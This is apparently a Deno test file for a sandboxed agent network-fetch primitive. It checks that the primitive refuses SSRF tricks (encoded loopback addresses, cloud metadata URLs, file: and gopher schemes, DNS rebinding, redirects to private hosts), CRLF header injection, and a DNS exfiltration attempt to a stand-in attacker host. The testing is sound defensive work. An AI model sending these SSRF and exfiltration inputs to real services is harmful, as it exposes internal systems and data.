import assert from "node:assert/strict";
import {
  ApprovalRequiredError,
  CapabilityDeniedError,
  HumanDecisionError,
  HumanPendingError,
  ValidationError,
} from "../base/errors.ts";
import { parsePolicy, PolicyRules } from "../policy/policy_rules.ts";
import {
  fakeNet,
  type FakeReply,
  hostNet,
  type NetProvider,
  type NetRequest,
} from "../providers/net.ts";
import {
  grantNet,
  netAudit,
  type NetFixture,
  netFixture,
  type NetFixtureOptions,
  netOf,
  refused,
  testHuman,
} from "../../tests/net_fixture.ts";
import { classifyAddress, formatIp, NetError, NetPrimitive, parseIp } from "./net.ts";

// --------------------------------------------------------------------------------- fixture

type Fixture = NetFixture;
const fixture = (options: NetFixtureOptions = {}) => netFixture(options);
const grant = (f: Fixture, key: string, scope: "exact" | "prefix" | "any" = "exact") =>
  grantNet(f, key, scope);

/** Asserts a refusal was audited as a deny and that no allowed request was. */
function assertDeniedAudit(f: Fixture, authority?: string): void {
  const records = netAudit(f);
  assert.deepEqual(records.filter((r) => r.decision === "allow").map((r) => r.resource), []);
  const denies = records.filter((r) => r.decision === "deny");
  assert.ok(denies.length > 0, "the refusal is audited as a deny");
  if (authority !== undefined) {
    assert.ok(
      denies.some((r) => r.authority.startsWith(authority)),
      `a deny by ${authority}, got ${denies.map((r) => r.authority).join(", ")}`,
    );
  }
}

const PUBLIC = "93.184.216.34";

const DNS: Record<string, string[]> = {
  "public.example": [PUBLIC],
  "other.example": ["93.184.216.35"],
  "localhost": ["127.0.0.1", "::1"],
  "private.example": ["10.1.2.3"],
  "metadata.example": ["169.254.169.254"],
  "mixed.example": [PUBLIC, "192.168.0.10"],
  "mapped.example": ["::ffff:10.0.0.1"],
  "ula.example": ["fd00:ec2::254"],
  "garbage.example": ["not-an-address"],
};

// ----------------------------------------------------------------- addresses (unit tables)

Deno.test("parseIp() reads every WHATWG/inet_aton IPv4 form and IPv6, formatIp() canonicalises", () => {
  const cases: [string, string | undefined][] = [
    ["127.0.0.1", "127.0.0.1"],
    ["2130706433", "127.0.0.1"],
    ["0x7f000001", "127.0.0.1"],
    ["0x7f.0.0.1", "127.0.0.1"],
    ["0x7f.1", "127.0.0.1"],
    ["0177.0.0.1", "127.0.0.1"],
    ["127.1", "127.0.0.1"],
    ["127.0.1", "127.0.0.1"],
    ["0", "0.0.0.0"],
    ["10.0.0.1.", "10.0.0.1"],
    ["::1", "::1"],
    ["[::1]", "::1"],
    ["::", "::"],
    ["::ffff:127.0.0.1", "::ffff:7f00:1"],
    ["FE80:0:0:0:0:0:0:1", "fe80::1"],
    ["2001:db8:0:0:1:0:0:1", "2001:db8::1:0:0:1"],
    ["1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8"],
    ["64:ff9b::10.0.0.1", "64:ff9b::a00:1"],
    ["256.0.0.1", undefined],
    ["1.2.3.4.5", undefined],
    ["0x", "0.0.0.0"],
    ["08.0.0.1", undefined],
    ["example.com", undefined],
    ["1.2.3.com", undefined],
    [":::", undefined],
    ["1::2::3", undefined],
    ["1:2:3:4:5:6:7:8:9", undefined],
    ["12345::1", undefined],
    ["fe80::1%eth0", undefined],
    ["::ffff:127.0.0.01", undefined],
    ["", undefined],
  ];
  for (const [text, expected] of cases) {
    const ip = parseIp(text);
    assert.equal(ip === undefined ? undefined : formatIp(ip), expected, text);
  }
});

Deno.test("classifyAddress() refuses every special-purpose range and allows public unicast", () => {
  const refused: [string, string][] = [
    ["127.0.0.1", "loopback"],
    ["127.255.255.254", "loopback"],
    ["0.0.0.0", "unspecified"],
    ["10.0.0.1", "private"],
    ["172.16.0.1", "private"],
    ["172.31.255.255", "private"],
    ["192.168.1.1", "private"],
    ["100.64.0.1", "shared"],
    ["100.100.100.200", "shared"],
    ["169.254.169.254", "link-local (cloud metadata)"],
    ["169.254.1.1", "link-local"],
    ["192.0.0.192", "reserved"],
    ["192.0.2.1", "documentation"],
    ["198.18.0.1", "benchmarking"],
    ["224.0.0.1", "multicast"],
    ["255.255.255.255", "broadcast"],
    ["240.0.0.1", "reserved"],
    ["::1", "loopback"],
    ["::", "unspecified"],
    ["::ffff:127.0.0.1", "IPv4-mapped"],
    ["::ffff:8.8.8.8", "IPv4-mapped"],
    ["::127.0.0.1", "IPv4-compatible"],
    ["fc00::1", "private"],
    ["fd00:ec2::254", "private"],
    ["fe80::1", "link-local"],
    ["fec0::1", "site-local"],
    ["ff02::1", "multicast"],
    ["64:ff9b::7f00:1", "NAT64 of 127.0.0.1"],
    ["64:ff9b::a9fe:a9fe", "NAT64 of 169.254.169.254"],
    ["64:ff9b:1::1", "local-use NAT64"],
    ["2002:c0a8:101::1", "6to4 of 192.168.1.1"],
    ["2001::1", "Teredo"],
    ["2001:db8::1", "documentation"],
    ["100::1", "reserved"],
    ["not-an-address", "not an IP address"],
  ];
  for (const [address, name] of refused) {
    const range = classifyAddress(address);
    assert.ok(range, `${address} must be refused`);
    assert.ok(range.name.startsWith(name), `${address}: ${range.name} starts with ${name}`);
  }
  for (
    const address of [
      "93.184.216.34",
      "8.8.8.8",
      "172.32.0.1",
      "100.128.0.1",
      "2606:4700::1111",
      "64:ff9b::808:808",
      "2002:808:808::1",
    ]
  ) {
    assert.equal(classifyAddress(address), null, address);
  }
});

// ------------------------------------------------------------------- SSRF table (fake net)

interface SsrfRow {
  readonly name: string;
  readonly url: string;
  readonly code: string;
}

const SSRF_FAKE: readonly SsrfRow[] = [
  { name: "localhost", url: "http://localhost/", code: "address_forbidden" },
  { name: "localhost with a trailing dot", url: "http://localhost./", code: "address_forbidden" },
  { name: "127.0.0.1", url: "http://127.0.0.1/", code: "address_forbidden" },
  { name: "[::1]", url: "http://[::1]/", code: "address_forbidden" },
  { name: "0.0.0.0", url: "http://0.0.0.0/", code: "address_forbidden" },
  {
    name: "cloud metadata",
    url: "http://169.254.169.254/latest/meta-data/",
    code: "address_forbidden",
  },
  { name: "decimal 2130706433", url: "http://2130706433/", code: "address_forbidden" },
  { name: "hex 0x7f000001", url: "http://0x7f000001/", code: "address_forbidden" },
  { name: "hex dotted 0x7f.0.0.1", url: "http://0x7f.0.0.1/", code: "address_forbidden" },
  { name: "octal 0177.0.0.1", url: "http://0177.0.0.1/", code: "address_forbidden" },
  { name: "short 127.1", url: "http://127.1/", code: "address_forbidden" },
  {
    name: "IPv4-mapped [::ffff:127.0.0.1]",
    url: "http://[::ffff:127.0.0.1]/",
    code: "address_forbidden",
  },
  { name: "10.0.0.1", url: "http://10.0.0.1/", code: "address_forbidden" },
  { name: "192.168.1.1", url: "http://192.168.1.1/", code: "address_forbidden" },
  { name: "172.16.0.1", url: "http://172.16.0.1/", code: "address_forbidden" },
  { name: "CGNAT 100.64.0.1", url: "http://100.64.0.1/", code: "address_forbidden" },
  { name: "[fe80::1]", url: "http://[fe80::1]/", code: "address_forbidden" },
  { name: "[fc00::1]", url: "http://[fc00::1]/", code: "address_forbidden" },
  { name: "NAT64 of 10.0.0.1", url: "http://[64:ff9b::10.0.0.1]/", code: "address_forbidden" },
  { name: "6to4 of 127.0.0.1", url: "http://[2002:7f00:1::1]/", code: "address_forbidden" },
  {
    name: "a name whose DNS answer is private",
    url: "http://private.example/",
    code: "address_forbidden",
  },
  {
    name: "a name that resolves to the metadata address",
    url: "http://metadata.example/",
    code: "address_forbidden",
  },
  {
    name: "a DNS answer mixing public and private",
    url: "http://mixed.example/",
    code: "address_forbidden",
  },
  {
    name: "a DNS answer that is IPv4-mapped",
    url: "http://mapped.example/",
    code: "address_forbidden",
  },
  {
    name: "a DNS answer in fc00::/7 (AWS IPv6 metadata)",
    url: "http://ula.example/",
    code: "address_forbidden",
  },
  {
    name: "a DNS answer that is no address",
    url: "http://garbage.example/",
    code: "address_forbidden",
  },
  { name: "file:///etc/passwd", url: "file:///etc/passwd", code: "scheme_forbidden" },
  { name: "ftp://", url: "ftp://public.example/pub/", code: "scheme_forbidden" },
  { name: "gopher://", url: "gopher://public.example:70/_HELO", code: "scheme_forbidden" },
  { name: "data:", url: "data:text/plain,hello", code: "scheme_forbidden" },
  { name: "javascript:", url: "javascript:alert(1)", code: "scheme_forbidden" },
  {
    name: "credentials in the URL",
    url: "http://user:pass@public.example/",
    code: "credentials_forbidden",
  },
  {
    name: "a user name alone",
    url: "https://token@public.example/",
    code: "credentials_forbidden",
  },
  { name: "port 0", url: "http://public.example:0/", code: "port_forbidden" },
  { name: "no URL at all", url: "not a url", code: "url_invalid" },
];

for (const row of SSRF_FAKE) {
  Deno.test(`NetPrimitive.fetch() refuses ${row.name} with nothing sent (attack: SSRF, ${row.code})`, async () => {
    await using f = await fixture();
    grant(f, "*", "any");
    const net = fakeNet({ dns: DNS });
    const error = await refused(() => netOf(f, net).fetch(f.pid, { url: row.url }), row.code);
    assert.ok(error instanceof NetError);
    assert.deepEqual(net.requests, [], "the fake network saw no request");
    assertDeniedAudit(f);
  });
}

Deno.test("NetPrimitive.fetch() reaches a public host at the address it checked, with provenance web", async () => {
  await using f = await fixture();
  grant(f, "public.example");
  const net = fakeNet({
    dns: DNS,
    handler: () => ({
      status: 200,
      headers: { "Content-Type": "text/html", "Set-Cookie": "session=secret", "X-Internal": "1" },
      body: "<p>hello</p>",
    }),
  });
  const response = await netOf(f, net).fetch(f.pid, {
    url: "http://PUBLIC.example/path?q=1#fragment",
    headers: { Accept: "text/html" },
  });
  assert.deepEqual(response, {
    url: "http://public.example/path?q=1",
    status: 200,
    headers: { "content-type": "text/html" },
    body: "<p>hello</p>",
    bytes: 12,
    truncated: false,
    redirects: [],
    provenance: { source: "web", label: "public.example", ref: "http://public.example/path?q=1" },
  });
  assert.equal(net.requests.length, 1);
  const sent = net.requests[0]!;
  assert.equal(sent.address, PUBLIC);
  assert.equal(sent.port, 80);
  assert.equal(sent.url.hostname, "public.example");
  assert.deepEqual({ ...sent.headers }, { accept: "text/html" });
  const allowed = netAudit(f).filter((r) => r.decision === "allow");
  assert.equal(allowed.length, 1);
  assert.equal(allowed[0]!.resource, "net:public.example");
  assert.equal(allowed[0]!.detail?.address, PUBLIC);
  assert.equal(allowed[0]!.detail?.status, 200);
});

Deno.test("NetPrimitive.fetch() resolves once and connects to that answer (attack: DNS rebinding)", async () => {
  await using f = await fixture();
  grant(f, "rebind.example");
  let answers = 0;
  const sent: NetRequest[] = [];
  // The attacker's resolver answers public first, then loopback to every later query.
  const provider: NetProvider = {
    resolve: () => Promise.resolve(answers++ === 0 ? [PUBLIC] : ["127.0.0.1"]),
    request: (request) => {
      sent.push(request);
      return Promise.resolve({
        status: 200,
        headers: {},
        bodyBytes: new TextEncoder().encode("ok"),
        truncated: false,
      });
    },
  };
  const response = await netOf(f, provider).fetch(f.pid, { url: "http://rebind.example/" });
  assert.equal(response.status, 200);
  assert.equal(answers, 1, "the name was resolved exactly once");
  assert.deepEqual(sent.map((r) => r.address), [PUBLIC], "the request went to the checked address");
});

Deno.test("NetPrimitive.fetch() resolves nothing for a process without authority (attack: DNS exfiltration)", async () => {
  await using f = await fixture();
  const net = fakeNet({ dns: { "c2VjcmV0.attacker.example": [PUBLIC] } });
  const error = await refused(
    () => netOf(f, net).fetch(f.pid, { url: "http://c2VjcmV0.attacker.example/" }),
    "capability_denied",
  );
  assert.ok(error instanceof CapabilityDeniedError);
  assert.equal(error.reason, "default");
  assert.deepEqual(net.lookups, [], "no DNS query was made");
  assert.deepEqual(net.requests, []);
  assertDeniedAudit(f, "default");
});

Deno.test("NetPrimitive.fetch() refuses a redirect from an allowed host to a private address (attack: redirect SSRF)", async () => {
  for (
    const location of ["http://127.0.0.1/admin", "http://private.example/", "http://[::1]:8080/"]
  ) {
    await using f = await fixture();
    grant(f, "*", "any");
    const net = fakeNet({
      dns: DNS,
      handler: (
        r,
      ) => (r.address === PUBLIC ? { status: 302, headers: { location } } : { status: 200 }),
    });
    await refused(
      () => netOf(f, net).fetch(f.pid, { url: "http://public.example/" }),
      "address_forbidden",
    );
    assert.deepEqual(
      net.requests.map((r) => r.address),
      [PUBLIC],
      `${location}: nothing sent there`,
    );
    const records = netAudit(f);
    assert.ok(records.some((r) => r.decision === "allow" && r.resource === "net:public.example"));
    assert.ok(records.some((r) => r.decision === "deny" && r.authority.startsWith("address:")));
  }
});

Deno.test("NetPrimitive.fetch() decides again on a redirect's host (attack: redirect to an ungranted host)", async () => {
  await using f = await fixture();
  grant(f, "public.example");
  const net = fakeNet({
    dns: DNS,
    handler: () => ({ status: 301, headers: { location: "http://other.example/" } }),
  });
  await refused(
    () => netOf(f, net).fetch(f.pid, { url: "http://public.example/" }),
    "capability_denied",
  );
  assert.deepEqual(net.lookups, ["public.example"], "the ungranted host was not even resolved");
  assert.equal(net.requests.length, 1);
});

Deno.test("NetPrimitive.fetch() refuses a redirect to file: (attack: scheme switch)", async () => {
  await using f = await fixture();
  grant(f, "*", "any");
  const net = fakeNet({
    dns: DNS,
    handler: () => ({ status: 307, headers: { location: "file:///etc/passwd" } }),
  });
  await refused(
    () => netOf(f, net).fetch(f.pid, { url: "http://public.example/" }),
    "redirect_invalid",
  );
  assert.equal(net.requests.length, 1);
});

Deno.test("NetPrimitive.fetch() caps a redirect loop (attack: redirect loop)", async () => {
  await using f = await fixture();
  grant(f, "public.example");
  const net = fakeNet({
    dns: DNS,
    handler: (r) => ({ status: 302, headers: { location: `${r.url.pathname}x` } }),
  });
  const primitive = netOf(f, net);
  await refused(() => primitive.fetch(f.pid, { url: "http://public.example/" }), "redirect_limit");
  assert.equal(net.requests.length, 6, "the first request and 5 redirects, no more");
  net.requests.length = 0;
  await refused(
    () => primitive.fetch(f.pid, { url: "http://public.example/", maxRedirects: 0 }),
    "redirect_limit",
  );
  assert.equal(net.requests.length, 1);
  assert.ok(netAudit(f).some((r) => r.decision === "deny" && r.authority === "redirect_limit"));
});

Deno.test("NetPrimitive.fetch() follows redirects: 303 turns POST into GET, credentials stay at their origin", async () => {
  await using f = await fixture();
  grant(f, "public.example");
  grant(f, "other.example");
  const net = fakeNet({
    dns: DNS,
    handler: (r) =>
      r.url.pathname === "/form"
        ? { status: 303, headers: { location: "/done" } }
        : r.url.pathname === "/done"
        ? { status: 308, headers: { location: "http://other.example/final" } }
        : { status: 200, body: "final" },
  });
  const response = await netOf(f, net).fetch(f.pid, {
    url: "http://public.example/form",
    method: "POST",
    headers: { "content-type": "text/plain", authorization: "Bearer t", "x-trace": "1" },
    body: "a=1",
  });
  assert.equal(response.url, "http://other.example/final");
  assert.deepEqual(response.redirects, [
    "http://public.example/done",
    "http://other.example/final",
  ]);
  assert.equal(response.provenance.label, "other.example");
  const [post, get, cross] = net.requests;
  assert.equal(post!.method, "POST");
  assert.equal(new TextDecoder().decode(post!.body), "a=1");
  assert.equal(get!.method, "GET");
  assert.equal(get!.body, undefined);
  assert.deepEqual({ ...get!.headers }, { authorization: "Bearer t", "x-trace": "1" });
  assert.equal(cross!.address, "93.184.216.35");
  assert.deepEqual(
    { ...cross!.headers },
    {},
    "nothing but content headers to another origin: a custom header may be a credential",
  );
  const actions = f.runtime.ledger.list(f.pid).filter((a) => a.kind === "net.fetch");
  assert.equal(actions.length, 1, "the POST went through the action ledger once");
  assert.equal(actions[0]!.status, "done");
});

Deno.test("NetPrimitive.fetch() tries the next checked address only when nothing reached the server", async () => {
  await using f = await fixture();
  grant(f, "two.example");
  const net = fakeNet({
    dns: { "two.example": ["93.184.216.36", "93.184.216.37"] },
    handler: (r) => {
      if (r.address === "93.184.216.36") {
        throw Object.assign(new Error("connect ECONNREFUSED"), { code: "ECONNREFUSED" });
      }
      return { status: 200, body: "second" };
    },
  });
  const response = await netOf(f, net).fetch(f.pid, { url: "http://two.example/" });
  assert.equal(response.body, "second");
  assert.deepEqual(net.requests.map((r) => r.address), ["93.184.216.36", "93.184.216.37"]);
});

Deno.test("NetPrimitive.fetch() cuts a body at maxBytes on a code point boundary", async () => {
  await using f = await fixture();
  grant(f, "public.example");
  const net = fakeNet({ dns: DNS, handler: () => ({ status: 200, body: `a${"€".repeat(10)}` }) });
  const primitive = netOf(f, net);
  const cut = await primitive.fetch(f.pid, { url: "http://public.example/", maxBytes: 5 });
  assert.deepEqual([cut.body, cut.bytes, cut.truncated], ["a€", 4, true]);
  const exact = await primitive.fetch(f.pid, { url: "http://public.example/", maxBytes: 31 });
  assert.deepEqual([exact.bytes, exact.truncated], [31, false]);
  assert.equal(net.requests[0]!.maxBytes, 6, "the provider reads one byte past the cap, no more");
});

Deno.test("NetPrimitive.fetch() aborts at its time cap with a typed timeout (attack: slow server)", async () => {
  await using f = await fixture();
  grant(f, "public.example");
  const net = fakeNet({ dns: DNS, handler: () => new Promise<FakeReply>(() => {}) });
  const started = performance.now();
  const error = await refused(
    () => netOf(f, net).fetch(f.pid, { url: "http://public.example/", timeoutMs: 100 }),
    "timeout",
  );
  assert.ok(error instanceof NetError);
  assert.ok(performance.now() - started < 5000);
  assert.ok(net.requests[0]!.signal.aborted, "the provider's request was aborted");
});

Deno.test("NetPrimitive.fetch() refuses bad arguments before deciding or sending anything", async () => {
  await using f = await fixture();
  grant(f, "*", "any");
  const net = fakeNet({ dns: DNS });
  const primitive = netOf(f, net, { limits: { requestBodyBytesMax: 8 } });
  const bad: [string, Parameters<NetPrimitive["fetch"]>[1]][] = [
    ["GET with a body", { url: "http://public.example/", body: "x" }],
    ["CRLF in a header (attack: header injection)", {
      url: "http://public.example/",
      headers: { "x-a": "1\r\nHost: evil" },
    }],
    ["a Host header", { url: "http://public.example/", headers: { Host: "evil.example" } }],
    ["a bad header name", { url: "http://public.example/", headers: { "a b": "1" } }],
    ["a header twice", { url: "http://public.example/", headers: { "X-A": "1", "x-a": "2" } }],
    ["a proxy header", { url: "http://public.example/", headers: { "proxy-authorization": "x" } }],
    ["maxBytes over 16 MiB", { url: "http://public.example/", maxBytes: 16 * 1024 * 1024 + 1 }],
    ["timeoutMs over 120 s", { url: "http://public.example/", timeoutMs: 120_001 }],
    ["a body over the cap", { url: "http://public.example/", method: "POST", body: "123456789" }],
    ["an unknown method", {
      url: "http://public.example/",
      method: "CONNECT" as unknown as "GET",
    }],
  ];
  for (const [name, request] of bad) {
    await assert.rejects(() => primitive.fetch(f.pid, request), ValidationError, name);
  }
  assert.deepEqual(net.lookups, []);
  assert.deepEqual(net.requests, []);
});

Deno.test("NetPrimitive.fetch() honours a deny rule on a host over a capability (attack: policy bypass by grant)", async () => {
  const rules = new PolicyRules(
    parsePolicy(
      '{"version": 1, "rules": [{"effect": "deny", "host": "blocked.example"}, {"effect": "deny", "host": "127.0.0.1"}]}',
      "test-policy",
    ),
  );
  await using f = await fixture({ rules });
  grant(f, "blocked.example");
  grant(f, "127.0.0.1:8080");
  const net = fakeNet({ dns: { "blocked.example": [PUBLIC] } });
  const primitive = netOf(f, net);
  const error = await refused(
    () => primitive.fetch(f.pid, { url: "http://blocked.example/" }),
    "capability_denied",
  );
  assert.ok(error instanceof CapabilityDeniedError);
  assert.equal(error.reason, "rule:test-policy#1");
  await refused(
    () => primitive.fetch(f.pid, { url: "http://127.0.0.1:8080/" }),
    "capability_denied",
  );
  assert.deepEqual(net.lookups, []);
  assert.deepEqual(net.requests, []);
  assertDeniedAudit(f, "rule:test-policy#");
});

Deno.test("NetPrimitive.fetch() unlocks a private address only by an exact endpoint grant, never net:* or a prefix", async () => {
  await using f = await fixture();
  const net = fakeNet({ dns: DNS });
  const primitive = netOf(f, net);
  grant(f, "*", "any");
  // A prefix of a host is no grant at all: it would also match other domains.
  assert.throws(() => grant(f, "127.0.0.1:", "prefix"), ValidationError);
  assert.throws(() => grant(f, "127.0.0.1:8080", "prefix"), ValidationError);
  grant(f, "127.0.0.1:9999");
  await refused(
    () => primitive.fetch(f.pid, { url: "http://127.0.0.1:8080/" }),
    "address_forbidden",
  );
  assert.equal(net.requests.length, 0);
  grant(f, "127.0.0.1:8080");
  assert.equal((await primitive.fetch(f.pid, { url: "http://127.0.0.1:8080/" })).status, 200);
  grant(f, "[::1]:8080");
  await primitive.fetch(f.pid, { url: "http://[::1]:8080/" });
  grant(f, "localhost:8081");
  await primitive.fetch(f.pid, { url: "http://localhost:8081/" });
  assert.deepEqual(
    net.requests.map((r) => `${r.address} ${r.port}`),
    ["127.0.0.1 8080", "::1 8080", "127.0.0.1 8081"],
  );
  const unlocked = netAudit(f).filter((r) => r.decision === "allow" && r.detail?.unlockedBy);
  assert.equal(unlocked.length, 3, "each unlocked request names the capability that unlocked it");
});

Deno.test("NetPrimitive.fetch() asks: ApprovalRequiredError without a human channel, before any DNS query", async () => {
  await using f = await fixture({ mode: "workspace-write" });
  grant(f, "public.example");
  const net = fakeNet({ dns: DNS });
  const error = await refused(
    () => netOf(f, net).fetch(f.pid, { url: "http://public.example/" }),
    "approval_required",
  );
  assert.ok(error instanceof ApprovalRequiredError);
  assert.match(error.digest, /^sha256:[0-9a-f]{64}$/);
  assert.deepEqual(net.lookups, []);
  assert.deepEqual(net.requests, []);
  assert.ok(netAudit(f).some((r) => r.decision === "ask"));
});

Deno.test("NetPrimitive.fetch() escalates an ask to the human channel with the request's details", async () => {
  await using f = await fixture({ mode: "workspace-write", human: "queue" });
  grant(f, "public.example");
  const net = fakeNet({ dns: DNS });
  const primitive = netOf(f, net, { human: f.runtime.human });
  await assert.rejects(
    () =>
      primitive.fetch(f.pid, {
        url: "http://public.example/a\u202Eb",
        method: "POST",
        headers: { "content-type": "text/plain" },
        body: "payload",
      }),
    HumanPendingError,
  );
  assert.deepEqual(net.lookups, []);
  assert.deepEqual(net.requests, []);
  const [request] = f.runtime.human.list({ pid: f.pid });
  const a = request!.approval!;
  assert.equal(a.primitive, "network");
  assert.equal(a.operation, "net.fetch");
  assert.equal(a.resource, "net:public.example");
  assert.equal(a.right, "connect");
  assert.equal(a.reason, "mode:workspace-write");
  assert.equal(a.bytes, 7);
  assert.match(a.digest, /^sha256:[0-9a-f]{64}$/);
  assert.ok(
    a.preview!.startsWith("POST http://public.example/a%E2%80%AEb\ncontent-type: text/plain"),
  );
  assert.equal(a.action.primitive, "net.fetch");
  assert.equal(a.action.args.url, "http://public.example/a\u202Eb");
});

Deno.test("NetPrimitive.fetch() runs an interactively approved request once, and the approval unlocks no private address", async () => {
  await using f = await fixture({ mode: "workspace-write" });
  grant(f, "public.example");
  grant(f, "private.example");
  const { human, asked } = testHuman(f);

  const net = fakeNet({ dns: DNS, handler: () => ({ status: 200, body: "approved" }) });
  const primitive = netOf(f, net, { human });
  assert.equal((await primitive.fetch(f.pid, { url: "http://public.example/" })).body, "approved");
  assert.equal((await primitive.fetch(f.pid, { url: "http://public.example/" })).body, "approved");
  assert.equal(asked.length, 2, "a used approval does not cover the next request");
  assert.equal(net.requests.length, 2);
  const allowed = netAudit(f).filter((r) => r.decision === "allow");
  assert.ok(allowed.every((r) => r.authority.startsWith("cap:")));
  await refused(
    () => primitive.fetch(f.pid, { url: "http://private.example/" }),
    "address_forbidden",
  );
  assert.equal(asked.length, 3);
  assert.equal(net.requests.length, 2, "nothing was sent to the private address");
});

Deno.test("NetPrimitive.fetch() refuses a private literal address before asking anyone", async () => {
  await using f = await fixture({ mode: "workspace-write", human: "queue" });
  grant(f, "*", "any");
  const net = fakeNet({ dns: DNS });
  await refused(
    () =>
      netOf(f, net, { human: f.runtime.human }).fetch(f.pid, { url: "http://169.254.169.254/" }),
    "address_forbidden",
  );
  assert.deepEqual(f.runtime.human.list({ pid: f.pid }), [], "no human was asked");
});

Deno.test("NetPrimitive.fetch() with human mode none refuses an ask with nothing sent", async () => {
  await using f = await fixture({ mode: "workspace-write", human: "none" });
  grant(f, "public.example");
  const net = fakeNet({ dns: DNS });
  const error = await refused(
    () => netOf(f, net, { human: f.runtime.human }).fetch(f.pid, { url: "http://public.example/" }),
    "human_unavailable",
  );
  assert.ok(error instanceof HumanDecisionError);
  assert.deepEqual(net.requests, []);
});

Deno.test("NetPrimitive.fetch() in read-only mode is denied even with a grant", async () => {
  await using f = await fixture({ mode: "read-only" });
  grant(f, "public.example");
  const net = fakeNet({ dns: DNS });
  const error = await refused(
    () => netOf(f, net).fetch(f.pid, { url: "http://public.example/" }),
    "capability_denied",
  );
  assert.equal((error as CapabilityDeniedError).reason, "mode:read-only");
  assert.deepEqual(net.requests, []);
});

Deno.test("NetPrimitive.fetch() reports a name that does not resolve as dns_failed", async () => {
  await using f = await fixture();
  grant(f, "nowhere.example");
  const net = fakeNet({ dns: {} });
  await refused(() => netOf(f, net).fetch(f.pid, { url: "http://nowhere.example/" }), "dns_failed");
  assert.deepEqual(net.requests, []);
});

Deno.test("NetPrimitive.dispatch() re-runs a stored net.fetch action", async () => {
  await using f = await fixture();
  grant(f, "public.example");
  const net = fakeNet({ dns: DNS, handler: () => ({ status: 200, body: "again" }) });
  const result = await netOf(f, net).dispatch(f.pid, {
    primitive: "net.fetch",
    args: { url: "http://public.example/", method: "GET", headers: {}, maxBytes: 100 },
  });
  assert.equal((result as { body: string }).body, "again");
  await assert.rejects(
    () => netOf(f, net).dispatch(f.pid, { primitive: "net.other", args: {} }),
    ValidationError,
  );
});

// ---------------------------------------------------------------- the real host provider

/** Whether this test run may use the loopback network (`--allow-net=127.0.0.1,localhost`). */
function loopbackAllowed(): boolean {
  return ["127.0.0.1", "localhost"].every((host) =>
    Deno.permissions.querySync({ name: "net", host }).state === "granted"
  );
}

const LOOPBACK = { ignore: !loopbackAllowed() };

interface Seen {
  readonly method: string;
  readonly host: string | null;
  readonly url: string;
}

interface LocalServer extends AsyncDisposable {
  readonly port: number;
  readonly seen: Seen[];
}

function localServer(
  handler: (request: Request) => Response | Promise<Response> = () =>
    new Response("hello from loopback", {
      headers: { "content-type": "text/plain; charset=utf-8", "set-cookie": "session=secret" },
    }),
  tls?: { readonly cert: string; readonly key: string },
): LocalServer {
  const seen: Seen[] = [];
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {}, ...(tls ?? {}) },
    (request) => {
      seen.push({ method: request.method, host: request.headers.get("host"), url: request.url });
      return handler(request);
    },
  );
  return {
    port: server.addr.port,
    seen,
    async [Symbol.asyncDispose]() {
      await server.shutdown();
    },
  };
}

Deno.test({
  name:
    "NetPrimitive.fetch() reaches a local server end to end with an explicit loopback grant (host provider)",
  ...LOOPBACK,
  async fn() {
    await using server = localServer();
    await using f = await fixture();
    const cap = grant(f, `127.0.0.1:${server.port}`);
    const response = await netOf(f, hostNet()).fetch(f.pid, {
      url: `http://127.0.0.1:${server.port}/hello?x=1`,
      headers: { "x-test": "yes" },
    });
    assert.equal(response.status, 200);
    assert.equal(response.body, "hello from loopback");
    assert.equal(response.bytes, 19);
    assert.equal(response.headers["content-type"], "text/plain; charset=utf-8");
    assert.equal(response.headers["set-cookie"], undefined, "cookies are not handed back");
    assert.deepEqual(response.provenance, {
      source: "web",
      label: "127.0.0.1",
      ref: `http://127.0.0.1:${server.port}/hello?x=1`,
    });
    assert.deepEqual(server.seen, [{
      method: "GET",
      host: `127.0.0.1:${server.port}`,
      url: `http://127.0.0.1:${server.port}/hello?x=1`,
    }]);
    const allowed = netAudit(f).filter((r) => r.decision === "allow");
    assert.equal(allowed.length, 1);
    assert.equal(allowed[0]!.authority, `cap:${cap}`);
    assert.equal(allowed[0]!.detail?.address, "127.0.0.1");
    assert.equal(allowed[0]!.detail?.unlockedBy, `cap:${cap}`);
  },
});

Deno.test({
  name:
    "NetPrimitive.fetch() refuses the same local server without the grant, and net:* does not unlock it (attack: SSRF to loopback)",
  ...LOOPBACK,
  async fn() {
    await using server = localServer();
    {
      await using f = await fixture();
      await refused(
        () => netOf(f, hostNet()).fetch(f.pid, { url: `http://127.0.0.1:${server.port}/` }),
        "capability_denied",
      );
      assertDeniedAudit(f, "default");
    }
    {
      await using f = await fixture();
      grant(f, "*", "any");
      await refused(
        () => netOf(f, hostNet()).fetch(f.pid, { url: `http://127.0.0.1:${server.port}/` }),
        "address_forbidden",
      );
      assertDeniedAudit(f, "address:loopback");
    }
    assert.deepEqual(server.seen, [], "the server saw no request");
  },
});

Deno.test({
  name:
    "NetPrimitive.fetch() refuses every loopback spelling with the host provider (attack: SSRF encodings)",
  ...LOOPBACK,
  async fn() {
    await using server = localServer();
    const p = server.port;
    const urls = [
      `http://localhost:${p}/`,
      `http://127.0.0.1:${p}/`,
      `http://[::1]:${p}/`,
      `http://0.0.0.0:${p}/`,
      `http://2130706433:${p}/`,
      `http://0x7f000001:${p}/`,
      `http://0x7f.0.0.1:${p}/`,
      `http://0177.0.0.1:${p}/`,
      `http://127.1:${p}/`,
      `http://[::ffff:127.0.0.1]:${p}/`,
    ];
    for (const url of urls) {
      await using f = await fixture();
      grant(f, "*", "any");
      const error = await refused(
        () => netOf(f, hostNet()).fetch(f.pid, { url }),
        "address_forbidden",
      );
      assert.ok(error instanceof NetError, url);
      assertDeniedAudit(f, "address:");
    }
    assert.deepEqual(server.seen, [], "the server saw no request");
  },
});

Deno.test({
  name: "NetPrimitive.fetch() reaches localhost through a host:port grant with the host provider",
  ...LOOPBACK,
  async fn() {
    await using server = localServer();
    await using f = await fixture();
    grant(f, `localhost:${server.port}`);
    const response = await netOf(f, hostNet()).fetch(f.pid, {
      url: `http://localhost:${server.port}/`,
    });
    assert.equal(response.status, 200);
    assert.equal(server.seen[0]?.host, `localhost:${server.port}`);
  },
});

Deno.test({
  name: "NetPrimitive.fetch() truncates a large body at the cap with the host provider",
  ...LOOPBACK,
  async fn() {
    // 2 MiB of 3-byte characters: the 1 MiB default cap falls inside one of them.
    await using server = localServer(() => new Response("€".repeat(700_000)));
    await using f = await fixture();
    grant(f, `127.0.0.1:${server.port}`);
    const response = await netOf(f, hostNet()).fetch(f.pid, {
      url: `http://127.0.0.1:${server.port}/`,
    });
    assert.equal(response.truncated, true);
    assert.equal(response.bytes, 1024 * 1024 - 1);
